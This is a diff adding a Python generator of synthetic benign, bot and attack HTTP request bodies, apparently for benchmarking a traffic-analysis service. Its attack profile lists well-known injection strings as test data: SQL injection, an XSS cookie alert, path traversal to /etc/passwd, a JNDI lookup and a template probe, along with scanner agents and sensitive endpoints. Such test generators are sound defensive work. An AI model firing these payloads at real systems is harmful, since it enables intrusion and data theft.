@@ -0,0 +1,152 @@
+"""
+Synthetic /analyze traffic for the benchmarks.
+
+Three profiles, mixed by weight (e.g. "benign=80,bot=15,attack=5"):
+  - benign: browser headers, public IPs from a large pool, small flat JSON
+            bodies on ordinary endpoints
+  - bot:    crawler/script User-Agents, missing headers, a handful of IPs
+            hammering listing endpoints (drives frequency_score up)
+  - attack: injection strings, deep or bulky payloads, admin/config
+            endpoints, scanner User-Agents and private/odd addresses
+
+Generation only uses a seeded random.Random, so the same (n, mix, seed)
+always yields the same request bodies.
+"""
+import random
+from typing import Any, Dict, List, Sequence
+
+PROFILES = ("benign", "bot", "attack")
+DEFAULT_MIX = {"benign": 80.0, "bot": 15.0, "attack": 5.0}
+
+_BROWSER_AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+)
+_BOT_AGENTS = (
+    "Googlebot/2.1 (+http://www.google.com/bot.html)",
+    "python-requests/2.32.3",
+    "curl/8.9.1",
+    "Scrapy/2.11 (+https://scrapy.org)",
+    "Go-http-client/1.1",
+)
+_ATTACK_AGENTS = ("sqlmap/1.8.9#stable", "Nikto/2.5.0", "masscan/1.3", "", "zgrab/0.x")
+
+_BENIGN_ENDPOINTS = ("/", "/products", "/products/42", "/cart", "/search", "/api/v1/orders", "/api/v1/profile")
+_BOT_ENDPOINTS = ("/products", "/sitemap.xml", "/search", "/api/v1/products?page=", "/robots.txt")
+_ATTACK_ENDPOINTS = (
+    "/admin", "/wp-login.php", "/.env", "/config.php", "/phpmyadmin/index.php",
+    "/api/v1/users/1/delete", "/cgi-bin/../../etc/passwd", "/actuator/env",
+)
+_INJECTIONS = (
+    "' OR '1'='1' --",
+    "1; DROP TABLE users;--",
+    "<script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    "${jndi:ldap://198.51.100.7/a}",
+    "{{7*7}}",
+    "UNION SELECT username, password FROM users",
+)
+
+
+def parse_mix(spec: str) -> Dict[str, float]:
+    """Parse "benign=80,bot=15,attack=5" into profile weights (missing profiles weigh 0)."""
+    mix = {profile: 0.0 for profile in PROFILES}
+    for part in spec.split(","):
+        name, _, weight = part.partition("=")
+        name = name.strip()
+        if name not in mix:
+            raise ValueError(f"Unknown traffic profile '{name}'. Use {list(PROFILES)}")
+        mix[name] = float(weight)
+    if sum(mix.values()) <= 0:
+        raise ValueError("Traffic mix needs at least one positive weight")
+    return mix
+
+
+def generate_traffic(n: int, mix: Dict[str, float] = DEFAULT_MIX, seed: int = 42) -> List[Dict[str, Any]]:
+    """`n` AnalyzeRequest bodies drawn from the profile mix."""
+    rng = random.Random(seed)
+    profiles = [p for p in PROFILES if mix.get(p, 0) > 0]
+    weights = [mix[p] for p in profiles]
+    chosen = rng.choices(profiles, weights=weights, k=n)
+    return [_GENERATORS[profile](rng, i) for i, profile in enumerate(chosen)]
+
+
+def profile_counts(bodies: Sequence[Dict[str, Any]]) -> Dict[str, int]:
+    counts = {profile: 0 for profile in PROFILES}
+    for body in bodies:
+        counts[body["request_id"].split("-", 1)[0]] += 1
+    return counts
+
+
+# ==============================================================
+# Profiles
+# ==============================================================
+
+def _benign(rng: random.Random, i: int) -> Dict[str, Any]:
+    method = rng.choice(("GET", "GET", "GET", "POST"))
+    return {
+        "request_id": f"benign-{i}",
+        "ip_address": f"{rng.randint(11, 99)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+        "endpoint": rng.choice(_BENIGN_ENDPOINTS),
+        "http_method": method,
+        "headers": {
+            "User-Agent": rng.choice(_BROWSER_AGENTS),
+            "Accept": "text/html,application/json",
+            "Content-Type": "application/json",
+            "Host": "shop.example.com",
+            "Accept-Language": "en-US,en;q=0.9",
+        },
+        "payload": {
+            "item_id": rng.randint(1, 10_000),
+            "quantity": rng.randint(1, 5),
+            "note": "".join(rng.choices("abcdefghijklmnopqrstuvwxyz ", k=rng.randint(0, 40))),
+        } if method == "POST" else None,
+    }
+
+
+def _bot(rng: random.Random, i: int) -> Dict[str, Any]:
+    headers = {"User-Agent": rng.choice(_BOT_AGENTS)}
+    if rng.random() < 0.5:
+        headers["Accept"] = "*/*"
+    endpoint = rng.choice(_BOT_ENDPOINTS)
+    return {
+        "request_id": f"bot-{i}",
+        "ip_address": f"203.0.113.{rng.randint(1, 8)}",
+        "endpoint": endpoint + str(rng.randint(1, 500)) if endpoint.endswith("=") else endpoint,
+        "http_method": "GET",
+        "headers": headers,
+        "payload": None,
+    }
+
+
+def _attack(rng: random.Random, i: int) -> Dict[str, Any]:
+    kind = rng.choice(("injection", "nested", "bulk"))
+    if kind == "injection":
+        payload: Any = {key: rng.choice(_INJECTIONS) for key in ("username", "password", "q")}
+    elif kind == "nested":
+        payload = {"value": rng.choice(_INJECTIONS)}
+        for _ in range(rng.randint(8, 40)):
+            payload = {"data": payload}
+    else:
+        payload = {"items": [{"id": j, "blob": "A" * rng.randint(50, 400)} for j in range(rng.randint(20, 80))]}
+
+    headers = {"User-Agent": rng.choice(_ATTACK_AGENTS)}
+    if rng.random() < 0.3:
+        headers["Content-Type"] = "application/x-www-form-urlencoded"
+    return {
+        "request_id": f"attack-{i}",
+        "ip_address": rng.choice((
+            f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+            f"198.51.100.{rng.randint(1, 254)}",
+            "2001:db8::" + format(rng.randint(1, 0xffff), "x"),
+        )),
+        "endpoint": rng.choice(_ATTACK_ENDPOINTS),
+        "http_method": rng.choice(("POST", "PUT", "DELETE", "GET")),
+        "headers": headers,
+        "payload": payload,
+    }
+
+
+_GENERATORS = {"benign": _benign, "bot": _bot, "attack": _attack}